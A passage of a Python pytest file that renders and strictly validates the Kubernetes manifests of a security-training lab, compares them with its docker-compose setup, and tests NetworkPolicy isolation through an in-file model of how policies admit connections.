"""The Kubernetes manifests, rendered and validated here (no cluster is started): the base,
a three-learner class from scripts/class, their likeness to docker-compose.yml, and the
NetworkPolicies' isolation read from the rendered objects, including the one way to the
proxy's traffic port that lets it trust X-Forwarded-Proto."""

import csv
import importlib.machinery
import json
import os
import re
import shutil
import stat
import subprocess
import sys
import types
from dataclasses import dataclass, field
from pathlib import Path

import lab_launch
import pytest
import yaml
from helpers import exercises
from local_lab import LAB, ROOT, SERVICES

BIN = Path(sys.executable).parent
BASE = ROOT / "deploy" / "kubernetes" / "base"
CLASS = ROOT / "scripts" / "class"
# The Kubernetes version the manifests are validated against.
KUBERNETES = "1.34.0"
LEARNERS = ["Ada Lovelace", "Zoë Ünal", "Ada Lovelace"]


def render(folder: Path) -> list[dict]:
    proc = subprocess.run(
        [str(BIN / "kubectl"), "kustomize", str(folder)], check=False, capture_output=True, text=True, timeout=120
    )
    assert proc.returncode == 0, proc.stderr
    return [doc for doc in yaml.safe_load_all(proc.stdout) if doc]


def validate(objects: list[dict], tmp_path: Path) -> subprocess.CompletedProcess:
    rendered = tmp_path / "rendered.yaml"
    rendered.write_text(yaml.safe_dump_all(objects), encoding="utf-8")
    return subprocess.run(
        [str(BIN / "kubernetes-validate"), "--strict", "-k", KUBERNETES, "--quiet", str(rendered)],
        check=False,
        capture_output=True,
        text=True,
        timeout=300,
    )


def make_class(tmp_path: Path, names: list[str], *extra: str) -> subprocess.CompletedProcess:
    tmp_path.mkdir(parents=True, exist_ok=True)
    learners = tmp_path / "learners.txt"
    learners.write_text("\n".join(names) + "\n", encoding="utf-8")
    return subprocess.run(
        [
            sys.executable,
            str(CLASS),
            "create",
            str(learners),
            "--domain",
            "lab.example.org",
            "--site-domain",
            "other.example.net",
            "--out",
            str(tmp_path / "class"),
            *(extra or ("--registry", "registry.example.org/class")),
        ],
        check=False,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.fixture(scope="module")
def base() -> list[dict]:
    return render(BASE)


@pytest.fixture(scope="module")
def klass(tmp_path_factory) -> tuple[list[dict], subprocess.CompletedProcess, Path]:
    tmp = tmp_path_factory.mktemp("class")
    proc = make_class(tmp, LEARNERS, "--registry", "registry.example.org/class", "--tag", "2026-11")
    assert proc.returncode == 0, proc.stderr
    return render(tmp / "class"), proc, tmp / "class"


def test_the_base_renders_and_validates_strictly(base, tmp_path):
    kinds = sorted(o["kind"] for o in base)
    assert kinds.count("Deployment") == 3 and kinds.count("Job") == 1 and "PersistentVolumeClaim" in kinds
    proc = validate(base, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_a_three_learner_class_renders_and_validates_strictly(klass, tmp_path):
    objects, _, _ = klass
    namespaces = sorted(o["metadata"]["name"] for o in objects if o["kind"] == "Namespace")
    assert namespaces == ["cookielab-ada-lovelace", "cookielab-ada-lovelace-2", "cookielab-zoe-unal"]
    proc = validate(objects, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr


def test_the_registry_prefix_is_set_once_for_every_image(klass):
    objects, _, folder = klass
    images = {
        c["image"]
        for o in objects
        if o["kind"] in ("Deployment", "Job")
        for c in o["spec"]["template"]["spec"]["containers"]
    }
    assert images == {f"registry.example.org/class/cookie-lab/{i}:2026-11" for i in ("app", "proxy", "site", "client")}
    assert (folder / "kustomization.yaml").read_text().count("registry.example.org/class") == 4


# --- the same lab as docker-compose.yml ---------------------------------------------------

COMPOSE = yaml.safe_load((ROOT / "docker-compose.yml").read_text(encoding="utf-8"))
SERVICES_OF = {name: service for name, service in COMPOSE["services"].items()}


def workload(objects: list[dict], name: str) -> dict:
    """The Deployment or Job holding the container of a compose service's name (the board is in the proxy's pod)."""
    return next(
        o
        for o in objects
        if o["kind"] in ("Deployment", "Job")
        and any(c["name"] == name for c in o["spec"]["template"]["spec"]["containers"])
    )


def container(objects: list[dict], name: str) -> dict:
    return next(c for c in workload(objects, name)["spec"]["template"]["spec"]["containers"] if c["name"] == name)


def container_in(objects: list[dict], namespace: str, name: str) -> dict:
    """A compose service's container in one learner's namespace."""
    return container([o for o in objects if o["metadata"].get("namespace") == namespace], name)


def resolved_args(c: dict) -> list[str]:
    """A container's args as Kubernetes runs them: $(NAME) replaced by the value of its env entry, if it has one."""
    values = {e["name"]: e["value"] for e in c.get("env", []) if "value" in e}
    return [re.sub(r"\$\((\w+)\)", lambda m: values.get(m.group(1), m.group(0)), a) for a in c.get("args", [])]


def options(args: list[str]) -> dict[str, str]:
    """mitmproxy's `--set name=value` options of an argument list; the last of a name wins, as in mitmproxy."""
    return dict(args[i + 1].split("=", 1) for i, a in enumerate(args[:-1]) if a == "--set")


def image_folder(service: str) -> str:
    """The services/ folder a compose service's image is built from (its Dockerfile's)."""
    return Path(SERVICES_OF[service]["build"]["dockerfile"]).parent.name


def dockerfile(service: str) -> str:
    return (SERVICES / image_folder(service) / "Dockerfile").read_text(encoding="utf-8")


def mebibytes(text: str) -> int:
    number, unit = re.fullmatch(r"(\d+)([A-Za-z]*)", str(text)).groups()
    return int(number) * {"M": 1, "Mi": 1, "G": 1024, "Gi": 1024}[unit]


def millicores(text) -> int:
    text = str(text)
    return int(text[:-1]) if text.endswith("m") else round(float(text) * 1000)


@pytest.mark.parametrize("service", list(SERVICES_OF))
def test_each_compose_service_has_its_workload_with_the_same_image(base, service):
    assert container(base, service)["image"] == f"cookie-lab/{image_folder(service)}:latest"


@pytest.mark.parametrize("service", list(SERVICES_OF))
def test_ports_match_the_published_ports_and_the_images(base, service):
    ports = {p["containerPort"] for p in container(base, service).get("ports", [])}
    published = {int(p.rsplit(":", 1)[1]) for p in SERVICES_OF[service].get("ports", [])}
    assert published <= ports
    exposed = {int(p) for line in re.findall(r"^EXPOSE (.+)$", dockerfile(service), re.MULTILINE) for p in line.split()}
    if service != "client":  # the client's image exposes the board's port; its Job listens on none
        assert ports == exposed


@pytest.mark.parametrize("service", list(SERVICES_OF))
def test_environment_matches(base, service):
    k8s = {e["name"] for e in container(base, service).get("env", [])}
    # The password and the UI's address reach mitmweb's arguments through the environment here (so that
    # scripts/class patches the address by name), through `${...}` in compose; a pod's route table may
    # hold only its own /32, so the app trusts X-Forwarded-* by NetworkPolicy instead.
    # The guide's address likewise (lab_guide_url); the guide marks `docker compose` commands "laptop only".
    extra = {"LAB_WEB_PASSWORD", "LAB_UI_URL", "LAB_GUIDE_URL", "FORWARDED_ALLOW_IPS", "LAB_GUIDE_PLACE"}
    if service != "proxy":
        extra.discard("LAB_GUIDE_URL")
    assert k8s - extra == set(SERVICES_OF[service].get("environment", {}))


# What the cluster adds after compose's command. The Ingress ends TLS, so the proxy takes the learner's
# scheme from X-Forwarded-Proto, which only the ingress controller can send it (the trust test below);
# on a laptop anyone on 127.0.0.1 could send that header, so compose never sets it.
CLUSTER_ONLY_ARGS = {"proxy": ["--set", "lab_trust_forwarded_proto=true"]}


@pytest.mark.parametrize("service", list(SERVICES_OF))
def test_arguments_match_the_compose_command(base, service):
    compose = [
        re.sub(r"\$\{LAB_WEB_PASSWORD[^}]*\}", "$(LAB_WEB_PASSWORD)", re.sub(r"\$\{(\w+):-([^}]*)\}", r"\2", a))
        for a in SERVICES_OF[service].get("command", [])
    ]
    args = resolved_args(container(base, service))
    # The Job waits longer for the proxy (--wait 120) than compose's client (the default 30 s).
    assert (args[:-2] if service == "client" else args) == compose + CLUSTER_ONLY_ARGS.get(service, [])
    assert "lab_trust_forwarded_proto" not in " ".join(compose)


def healthcheck(service: str) -> dict:
    """A service's health check: compose's own, else its image's HEALTHCHECK."""
    if "healthcheck" in SERVICES_OF[service]:
        check = SERVICES_OF[service]["healthcheck"]
        return {
            "command": check["test"][1:],
            "interval": check["interval"],
            "timeout": check["timeout"],
            "retries": check["retries"],
            "start_period": check["start_period"],
        }
    match = re.search(r"^HEALTHCHECK (.*?)\\\n\s+CMD (\[.*\])$", dockerfile(service), re.MULTILINE)
    options = dict(re.findall(r"--([\w-]+)=(\S+)", match.group(1)))
    return {
        "command": json.loads(match.group(2)),
        "interval": options["interval"],
        "timeout": options["timeout"],
        "retries": int(options["retries"]),
        "start_period": options["start-period"],
    }


@pytest.mark.parametrize("service", ["app", "proxy", "site", "progress"])
def test_probes_check_what_the_health_checks_check(base, service):
    """The same checks as compose's, at a pace for Kubernetes: its liveness probe restarts a container."""
    want = healthcheck(service)
    c = container(base, service)
    ports = {p["name"]: p["containerPort"] for p in c["ports"]}
    url = re.search(r"http://127\.0\.0\.1:(\d+)(/\w+)", " ".join(want["command"]))
    if url:  # GET /healthz on the container's port, as httpGet
        for kind in ("startupProbe", "readinessProbe", "livenessProbe"):
            get = c[kind]["httpGet"]
            assert (ports[get["port"]], get["path"]) == (int(url.group(1)), url.group(2))
    else:  # the proxy: ready by the image's own check; alive when the UI's port, which that check opens, opens
        assert (
            c["readinessProbe"]["exec"]["command"]
            == want["command"]
            == ["python", "/srv/proxy/lab_launch.py", "--health"]
        )
        for kind in ("startupProbe", "livenessProbe"):
            assert ports[c[kind]["tcpSocket"]["port"]] == lab_launch.WEB_PORT
    seconds = {key: int(want[key].rstrip("s")) for key in ("interval", "start_period")}
    startup, live = c["startupProbe"], c["livenessProbe"]
    assert startup["failureThreshold"] * startup["periodSeconds"] >= seconds["start_period"]
    assert live["failureThreshold"] * live["periodSeconds"] >= want["retries"] * seconds["interval"]


@pytest.mark.parametrize("service", list(SERVICES_OF))
def test_limits_match_and_requests_fit_under_them(base, service):
    limits = SERVICES_OF[service]["deploy"]["resources"]["limits"]
    resources = container(base, service)["resources"]
    assert mebibytes(resources["limits"]["memory"]) == mebibytes(limits["memory"])
    assert millicores(resources["limits"]["cpu"]) == millicores(limits["cpus"])
    assert mebibytes(resources["requests"]["memory"]) < mebibytes(limits["memory"])


@pytest.mark.parametrize("service", list(SERVICES_OF))
def test_every_pod_is_hardened_as_in_compose(base, service):
    user = re.findall(r"^USER (\d+):(\d+)$", dockerfile(service), re.MULTILINE)[-1]
    spec = workload(base, service)["spec"]["template"]["spec"]
    pod, c = spec["securityContext"], container(base, service)["securityContext"]
    assert (pod["runAsNonRoot"], str(pod["runAsUser"]), str(pod["runAsGroup"])) == (True, *user)
    assert pod["seccompProfile"] == {"type": "RuntimeDefault"}
    assert c == {
        "allowPrivilegeEscalation": False,
        "readOnlyRootFilesystem": True,
        "privileged": False,
        "capabilities": {"drop": ["ALL"]},
    }
    # compose: cap_drop ALL, no-new-privileges, read_only, and a tmpfs at /tmp.
    hardened = COMPOSE["x-hardened"]
    assert hardened == {
        "cap_drop": ["ALL"],
        "security_opt": ["no-new-privileges:true"],
        "read_only": True,
        "tmpfs": ["/tmp"],
    }
    mounts = {m["mountPath"]: m for m in container(base, service).get("volumeMounts", [])}
    volumes = {v["name"]: v for v in spec["volumes"]}
    assert "emptyDir" in volumes[mounts["/tmp"]["name"]]
    assert spec["automountServiceAccountToken"] is False


@pytest.mark.parametrize("service", [s for s in SERVICES_OF if s != "client"])
def test_the_captures_volume_is_writable_for_the_proxy_alone(base, service):
    """As in compose; the client Job only runs the seed, which reads neither captures nor the index."""
    compose = {v.split(":")[1]: not v.endswith(":ro") for v in SERVICES_OF[service].get("volumes", [])}
    mounts = {
        m["mountPath"]: not m.get("readOnly", False)
        for m in container(base, service).get("volumeMounts", [])
        if m["mountPath"] != "/tmp"
    }
    # compose mounts the one file /lab/exercises.toml; here the ConfigMap is the folder /lab, except
    # for the guide, whose sheets are at /lab in its image (the index alone is mounted, by subPath).
    compose = {
        ("/lab" if path == "/lab/exercises.toml" and path not in mounts else path): rw for path, rw in compose.items()
    }
    assert mounts == compose


# compose's named volumes, as each is kept on the cluster. The captures hold the learner's progress, kept
# across restarts. The CA is an emptyDir: lab_launch.py makes it at the pod's first start, and since the
# Ingress ends TLS, learners never use the proxy's own https on a cluster, so nobody trusts that CA and
# nothing is lost with the pod.
# The exploit server's page and log, and the app's state for the attack labs, are the learner's work,
# kept like the captures.
CLUSTER_VOLUMES = {
    "captures": "persistentVolumeClaim",
    "ca": "emptyDir",
    "exploit": "persistentVolumeClaim",
    "appdata": "persistentVolumeClaim",
}


def test_each_compose_volume_has_its_kind_on_the_cluster(base):
    assert set(COMPOSE["volumes"]) == set(CLUSTER_VOLUMES)
    seen = set()
    for service in (s for s in SERVICES_OF if s != "client"):  # the Job mounts nothing (above)
        spec = workload(base, service)["spec"]["template"]["spec"]
        volumes = {v["name"]: v for v in spec["volumes"]}
        mounts = {m["mountPath"]: m["name"] for m in container(base, service).get("volumeMounts", [])}
        for source, path in (v.split(":")[:2] for v in SERVICES_OF[service].get("volumes", [])):
            if source in CLUSTER_VOLUMES:
                assert CLUSTER_VOLUMES[source] in volumes[mounts[path]], (service, source)
                seen.add(source)
    assert seen == set(CLUSTER_VOLUMES)


# --- NetworkPolicies -----------------------------------------------------------------------
#
# A model of how a cluster enforces NetworkPolicies (networking.k8s.io/v1), read from the rendered
# objects; the table under it checks the model on hand-written policies before the lab's are read.
#   - A policy selects pods in its own namespace (podSelector {} selects them all). It applies to the
#     directions in policyTypes; without policyTypes to Ingress always, and to Egress when it has
#     egress rules.
#   - A pod that no policy selects for a direction is not isolated in it: everything is allowed.
#     An isolated pod allows what at least one rule of one of those policies allows (they add up).
#   - A rule with no (or an empty) `from`/`to` matches every peer; with no (or empty) `ports`, every
#     port. A peer's podSelector alone means pods of the policy's namespace; namespaceSelector alone,
#     every pod of the namespaces it selects; both in one peer, pods that match both.
#   - A port is a number (with endPort, a range) or the name of a container port of the destination
#     pod; protocol defaults to TCP.
#   - A connection needs the source's egress and the destination's ingress to allow it.
# ipBlock is left out: the model knows no pod addresses, so it refuses a policy that has one.


@dataclass
class Pod:
    """A pod as NetworkPolicies see it: its namespace, its labels, its containers' ports (name, number, protocol)."""

    namespace: str
    labels: dict[str, str] = field(default_factory=dict)
    ports: tuple[tuple[str, int, str], ...] = ()


def selects(selector: dict, labels: dict) -> bool:
    """Kubernetes label-selector semantics: matchLabels and matchExpressions, ANDed; {} selects everything."""
    if any(labels.get(k) != v for k, v in selector.get("matchLabels", {}).items()):
        return False
    for expr in selector.get("matchExpressions", []):
        key, operator, values = expr["key"], expr["operator"], expr.get("values", [])
        if operator == "In":
            found = key in labels and labels[key] in values
        elif operator == "NotIn":
            found = key not in labels or labels[key] not in values
        elif operator == "Exists":
            found = key in labels
        elif operator == "DoesNotExist":
            found = key not in labels
        else:
            raise ValueError(f"unknown selector operator {operator!r}")
        if not found:
            return False
    return True


def namespace_labels(objects: list[dict]) -> dict[str, dict]:
    # The API server adds kubernetes.io/metadata.name to every namespace.
    return {
        o["metadata"]["name"]: {**o["metadata"].get("labels", {}), "kubernetes.io/metadata.name": o["metadata"]["name"]}
        for o in objects
        if o["kind"] == "Namespace"
    }


def pods(objects: list[dict], namespace: str) -> dict[str, Pod]:
    """The pods of the Deployments and Jobs in namespace, by workload name, with every container's ports."""
    return {
        o["metadata"]["name"]: Pod(
            namespace,
            o["spec"]["template"]["metadata"]["labels"],
            tuple(
                (p.get("name", ""), p["containerPort"], p.get("protocol", "TCP"))
                for c in o["spec"]["template"]["spec"]["containers"]
                for p in c.get("ports", [])
            ),
        )
        for o in objects
        if o["kind"] in ("Deployment", "Job") and o["metadata"]["namespace"] == namespace
    }


def pod_labels(objects: list[dict], namespace: str) -> dict[str, dict]:
    return {name: pod.labels for name, pod in pods(objects, namespace).items()}


def policy_types(spec: dict) -> set[str]:
    """The directions a policy applies to, with the API server's default when policyTypes is absent or empty."""
    if spec.get("policyTypes"):
        return set(spec["policyTypes"])
    return {"Ingress", "Egress"} if spec.get("egress") else {"Ingress"}


def peer_matches(peer: dict, policy_namespace: str, other: Pod, ns_labels: dict[str, dict]) -> bool:
    """Whether other is one of the pods a `from`/`to` peer of a policy in policy_namespace names."""
    assert "ipBlock" not in peer, "an ipBlock would admit anything at that address"
    if "namespaceSelector" not in peer and "podSelector" not in peer:
        raise ValueError(f"a peer needs podSelector, namespaceSelector or ipBlock: {peer}")
    if "namespaceSelector" in peer:
        # A namespace that the objects do not hold still carries its name label.
        labels = ns_labels.get(other.namespace, {"kubernetes.io/metadata.name": other.namespace})
        if not selects(peer["namespaceSelector"], labels):
            return False
    elif other.namespace != policy_namespace:
        return False
    return "podSelector" not in peer or selects(peer["podSelector"], other.labels)


def port_matches(entries: list[dict], destination: Pod, port: int, protocol: str) -> bool:
    """Whether a rule's `ports` let in port/protocol on destination; no entries, every port."""
    if not entries:
        return True
    for entry in entries:
        if entry.get("protocol", "TCP") != protocol:
            continue
        wanted = entry.get("port")
        if wanted is None:
            return True
        if isinstance(wanted, str):  # a named port: the destination's container port of that name
            if (wanted, port, protocol) in destination.ports:
                return True
        elif wanted <= port <= entry.get("endPort", wanted):
            return True
    return False


def permits(objects: list[dict], direction: str, pod: Pod, other: Pod, port: int, protocol: str = "TCP") -> bool:
    """Whether the policies of pod's namespace let pod receive from other (Ingress) or send to other (Egress),
    on port/protocol of the destination."""
    rules_key, peers_key = {"Ingress": ("ingress", "from"), "Egress": ("egress", "to")}[direction]
    destination = pod if direction == "Ingress" else other
    ns_labels = namespace_labels(objects)
    policies = [
        o
        for o in objects
        if o["kind"] == "NetworkPolicy"
        and o["metadata"]["namespace"] == pod.namespace
        and selects(o["spec"].get("podSelector", {}), pod.labels)
        and direction in policy_types(o["spec"])
    ]
    if not policies:
        return True  # not isolated in this direction
    for policy in policies:
        for rule in policy["spec"].get(rules_key) or []:
            peers = rule.get(peers_key) or []
            if not port_matches(rule.get("ports") or [], destination, port, protocol):
                continue
            if not peers or any(peer_matches(peer, pod.namespace, other, ns_labels) for peer in peers):
                return True
    return False


def admits(objects: list[dict], target: Pod, source: Pod, port: int, protocol: str = "TCP") -> bool:
    """Whether the policies of target's namespace let source reach target on port (the ingress side)."""
    return permits(objects, "Ingress", target, source, port, protocol)


def connects(objects: list[dict], source: Pod, target: Pod, port: int, protocol: str = "TCP") -> bool:
    """Whether a connection from source to target's port is allowed: the source's egress and the target's ingress."""
    return permits(objects, "Egress", source, target, port, protocol) and admits(
        objects, target, source, port, protocol
    )


# The model on known policies. Two namespaces and an unlisted one; "shop" runs web and db.
WEB = Pod(
    "shop", {"app": "web", "tier": "front"}, (("http", 8080, "TCP"), ("metrics", 9090, "TCP"), ("dns", 5353, "UDP"))
)
DB = Pod("shop", {"app": "db"}, (("sql", 5432, "TCP"),))
SHOP_CLIENT = Pod("shop", {"app": "client"})
SHOP_ADMIN = Pod("shop", {"role": "admin"})
STRANGER = Pod("other", {"app": "client"})
OTHER_ADMIN = Pod("other", {"role": "admin"})
NOWHERE = Pod("elsewhere", {"app": "client"})
NAMESPACES = [
    {"kind": "Namespace", "metadata": {"name": "shop", "labels": {"team": "shop"}}},
    {"kind": "Namespace", "metadata": {"name": "other", "labels": {"team": "other"}}},
]
DENY_ALL = {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]}
FRONT = {"matchLabels": {"tier": "front"}}


def policy(spec: dict, namespace: str = "shop") -> dict:
    return {"kind": "NetworkPolicy", "metadata": {"name": f"p{id(spec)}", "namespace": namespace}, "spec": spec}


def ingress(*rules: dict, selector: dict | None = None, types: list[str] | None = None) -> dict:
    spec = {"podSelector": FRONT if selector is None else selector, "ingress": list(rules)}
    return spec if types is None else {**spec, "policyTypes": types}


def peer(pods_: dict | None = None, namespaces: dict | None = None) -> dict:
    return {k: v for k, v in (("podSelector", pods_), ("namespaceSelector", namespaces)) if v is not None}


INGRESS_CASES = [
    # (id, policies in shop, source, port, protocol, allowed to WEB)
    ("no-policy-allows-all", [], STRANGER, 8080, "TCP", True),
    (
        "a-policy-for-another-pod-leaves-web-open",
        [{"podSelector": {"matchLabels": {"app": "db"}}}],
        STRANGER,
        8080,
        "TCP",
        True,
    ),
    ("a-policy-in-another-namespace-leaves-web-open", [("other", DENY_ALL)], STRANGER, 8080, "TCP", True),
    ("deny-all", [DENY_ALL], SHOP_CLIENT, 8080, "TCP", False),
    ("no-policy-types-means-ingress", [{"podSelector": {}}], SHOP_CLIENT, 8080, "TCP", False),
    (
        "no-policy-types-with-egress-rules-still-ingress",
        [{"podSelector": {}, "egress": [{}]}],
        SHOP_CLIENT,
        8080,
        "TCP",
        False,
    ),
    (
        "egress-only-policy-leaves-ingress-open",
        [{"podSelector": {}, "policyTypes": ["Egress"]}],
        STRANGER,
        8080,
        "TCP",
        True,
    ),
    (
        "ingress-rules-of-an-egress-only-policy-do-nothing",
        [
            {
                "podSelector": {},
                "policyTypes": ["Egress"],
                "ingress": [{"from": [peer({"matchLabels": {"app": "nobody"}})]}],
            }
        ],
        STRANGER,
        8080,
        "TCP",
        True,
    ),
    (
        "ingress-type-without-rules-denies",
        [{"podSelector": FRONT, "policyTypes": ["Ingress"]}],
        SHOP_CLIENT,
        8080,
        "TCP",
        False,
    ),
    ("rule-without-from-allows-every-source", [ingress({"ports": [{"port": 8080}]})], NOWHERE, 8080, "TCP", True),
    ("rule-with-empty-from-allows-every-source", [ingress({"from": []})], STRANGER, 9090, "TCP", True),
    ("empty-rule-allows-everything", [DENY_ALL, ingress({})], NOWHERE, 5353, "UDP", True),
    ("rule-without-from-keeps-its-ports", [ingress({"ports": [{"port": 8080}]})], NOWHERE, 9090, "TCP", False),
    (
        "rule-with-empty-ports-allows-every-port",
        [ingress({"from": [peer({})], "ports": []})],
        SHOP_CLIENT,
        9090,
        "TCP",
        True,
    ),
    ("port-protocol-defaults-to-tcp", [ingress({"ports": [{"port": 5353}]})], SHOP_CLIENT, 5353, "UDP", False),
    ("port-with-udp", [ingress({"ports": [{"port": 5353, "protocol": "UDP"}]})], SHOP_CLIENT, 5353, "UDP", True),
    (
        "protocol-without-port-allows-its-every-port",
        [ingress({"ports": [{"protocol": "UDP"}]})],
        SHOP_CLIENT,
        5353,
        "UDP",
        True,
    ),
    (
        "protocol-without-port-not-another-protocol",
        [ingress({"ports": [{"protocol": "UDP"}]})],
        SHOP_CLIENT,
        8080,
        "TCP",
        False,
    ),
    ("port-range-inside", [ingress({"ports": [{"port": 8000, "endPort": 8100}]})], SHOP_CLIENT, 8080, "TCP", True),
    ("port-range-outside", [ingress({"ports": [{"port": 8000, "endPort": 8100}]})], SHOP_CLIENT, 9090, "TCP", False),
    ("named-port", [ingress({"ports": [{"port": "http"}]})], SHOP_CLIENT, 8080, "TCP", True),
    ("named-port-is-not-another-port", [ingress({"ports": [{"port": "http"}]})], SHOP_CLIENT, 9090, "TCP", False),
    (
        "named-port-keeps-its-protocol",
        [ingress({"ports": [{"port": "dns", "protocol": "UDP"}]})],
        SHOP_CLIENT,
        5353,
        "UDP",
        True,
    ),
    ("named-port-of-tcp-is-not-the-udp-one", [ingress({"ports": [{"port": "dns"}]})], SHOP_CLIENT, 5353, "UDP", False),
    (
        "pod-selector-peer-is-own-namespace",
        [ingress({"from": [peer({"matchLabels": {"app": "client"}})]})],
        SHOP_CLIENT,
        8080,
        "TCP",
        True,
    ),
    (
        "pod-selector-peer-not-other-namespace",
        [ingress({"from": [peer({"matchLabels": {"app": "client"}})]})],
        STRANGER,
        8080,
        "TCP",
        False,
    ),
    ("empty-pod-selector-is-own-namespace-only", [ingress({"from": [peer({})]})], STRANGER, 8080, "TCP", False),
    (
        "namespace-selector-peer",
        [ingress({"from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
        OTHER_ADMIN,
        8080,
        "TCP",
        True,
    ),
    (
        "namespace-selector-peer-not-own-namespace",
        [ingress({"from": [peer(namespaces={"matchLabels": {"team": "other"}})]})],
        SHOP_CLIENT,
        8080,
        "TCP",
        False,
    ),
    (
        "empty-namespace-selector-is-every-namespace",
        [ingress({"from": [peer(namespaces={})]})],
        NOWHERE,
        8080,
        "TCP",
        True,
    ),
    (
        "metadata-name-label-of-an-unlisted-namespace",
        [ingress({"from": [peer(namespaces={"matchLabels": {"kubernetes.io/metadata.name": "elsewhere"}})]})],
        NOWHERE,
        8080,
        "TCP",
        True,
    ),
    (
        "namespace-and-pod-selector-are-anded",
        [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})],
        OTHER_ADMIN,
        8080,
        "TCP",
        True,
    ),
    (
        "anded-peer-not-the-pod-alone",
        [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})],
        SHOP_ADMIN,
        8080,
        "TCP",
        False,
    ),
    (
        "anded-peer-not-the-namespace-alone",
        [ingress({"from": [peer({"matchLabels": {"role": "admin"}}, {"matchLabels": {"team": "other"}})]})],
        STRANGER,
        8080,
        "TCP",
        False,
    ),
    (
        "two-peers-are-ored",
        [
            ingress(
                {
                    "from": [
                        peer({"matchLabels": {"role": "admin"}}),
                        peer(namespaces={"matchLabels": {"team": "other"}}),
                    ]
                }
            )
        ],
        SHOP_ADMIN,
        8080,
        "TCP",
        True,
    ),
    (
        "from-and-ports-are-anded",
        [ingress({"from": [peer({"matchLabels": {"app": "client"}})], "ports": [{"port": 8080}]})],
        SHOP_CLIENT,
        9090,
        "TCP",
        False,
    ),
    (
        "policies-add-up-first",
        [
            DENY_ALL,
            ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
            ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]}),
        ],
        SHOP_CLIENT,
        8080,
        "TCP",
        True,
    ),
    (
        "policies-add-up-second",
        [
            DENY_ALL,
            ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
            ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]}),
        ],
        STRANGER,
        9090,
        "TCP",
        True,
    ),
    (
        "policies-add-up-not-across-rules",
        [
            DENY_ALL,
            ingress({"ports": [{"port": 8080}], "from": [peer({"matchLabels": {"app": "client"}})]}),
            ingress({"ports": [{"port": 9090}], "from": [peer(namespaces={"matchLabels": {"team": "other"}})]}),
        ],
        STRANGER,
        8080,
        "TCP",
        False,
    ),
    (
        "match-expressions-not-in",
        [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["client"]}]})]})],
        SHOP_ADMIN,
        8080,
        "TCP",
        True,
    ),
    (
        "match-expressions-not-in-excludes",
        [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "NotIn", "values": ["client"]}]})]})],
        SHOP_CLIENT,
        8080,
        "TCP",
        False,
    ),
    (
        "match-expressions-does-not-exist",
        [ingress({"from": [peer({"matchExpressions": [{"key": "role", "operator": "DoesNotExist"}]})]})],
        SHOP_CLIENT,
        8080,
        "TCP",
        True,
    ),
    (
        "match-expressions-in-needs-the-key",
        [ingress({"from": [peer({"matchExpressions": [{"key": "app", "operator": "In", "values": ["client"]}]})]})],
        SHOP_ADMIN,
        8080,
        "TCP",
        False,
    ),
]


def shop_world(policies: list) -> list[dict]:
    """The test namespaces and the policies: a spec is in shop, a (namespace, spec) pair in its namespace."""
    return NAMESPACES + [policy(p[1], p[0]) if isinstance(p, tuple) else policy(p) for p in policies]


@pytest.mark.parametrize(
    ("policies", "source", "port", "protocol", "allowed"),
    [pytest.param(*case[1:], id=case[0]) for case in INGRESS_CASES],
)
def test_the_policy_model_on_known_ingress_policies(policies, source, port, protocol, allowed):
    assert admits(shop_world(policies), WEB, source, port, protocol) is allowed


TO_DB = {
    "podSelector": FRONT,
    "policyTypes": ["Egress"],
    "egress": [{"to": [peer({"matchLabels": {"app": "db"}})], "ports": [{"port": "sql"}]}],
}

CONNECTION_CASES = [
    # (id, policies in shop, source, target, port, protocol, connected)
    ("no-policy", [], WEB, DB, 5432, "TCP", True),
    ("egress-named-port-is-the-destinations", [TO_DB], WEB, DB, 5432, "TCP", True),
    ("egress-only-to-the-named-port", [TO_DB], WEB, DB, 5433, "TCP", False),
    ("egress-only-to-the-selected-pods", [TO_DB], WEB, SHOP_CLIENT, 5432, "TCP", False),
    (
        "egress-not-to-another-namespace",
        [TO_DB],
        WEB,
        Pod("other", {"app": "db"}, (("sql", 5432, "TCP"),)),
        5432,
        "TCP",
        False,
    ),
    ("egress-of-web-leaves-others-open", [TO_DB], SHOP_CLIENT, STRANGER, 443, "TCP", True),
    (
        "no-policy-types-with-egress-rules-means-egress",
        [{k: v for k, v in TO_DB.items() if k != "policyTypes"}],
        WEB,
        SHOP_CLIENT,
        80,
        "TCP",
        False,
    ),
    (
        "egress-allowed-but-ingress-denied",
        [TO_DB, {"podSelector": {"matchLabels": {"app": "db"}}}],
        WEB,
        DB,
        5432,
        "TCP",
        False,
    ),
    (
        "ingress-allowed-but-egress-denied",
        [DENY_ALL, ingress({}, selector={"matchLabels": {"app": "db"}})],
        WEB,
        DB,
        5432,
        "TCP",
        False,
    ),
    (
        "both-sides-allow",
        [DENY_ALL, TO_DB, ingress({"from": [peer(FRONT)]}, selector={"matchLabels": {"app": "db"}})],
        WEB,
        DB,
        5432,
        "TCP",
        True,
    ),
    (
        "rule-without-to-allows-every-destination",
        [{"podSelector": FRONT, "policyTypes": ["Egress"], "egress": [{"ports": [{"port": 53, "protocol": "UDP"}]}]}],
        WEB,
        NOWHERE,
        53,
        "UDP",
        True,
    ),
]


@pytest.mark.parametrize(
    ("policies", "source", "target", "port", "protocol", "connected"),
    [pytest.param(*case[1:], id=case[0]) for case in CONNECTION_CASES],
)
def test_the_policy_model_on_known_connections(policies, source, target, port, protocol, connected):
    assert connects(shop_world(policies), source, target, port, protocol) is connected


def test_the_policy_model_refuses_what_it_cannot_judge():
    with pytest.raises(AssertionError, match="ipBlock"):
        admits(shop_world([ingress({"from": [{"ipBlock": {"cidr": "10.0.0.0/8"}}]})]), WEB, STRANGER, 8080)
    with pytest.raises(ValueError, match="operator"):
        admits(
            shop_world(
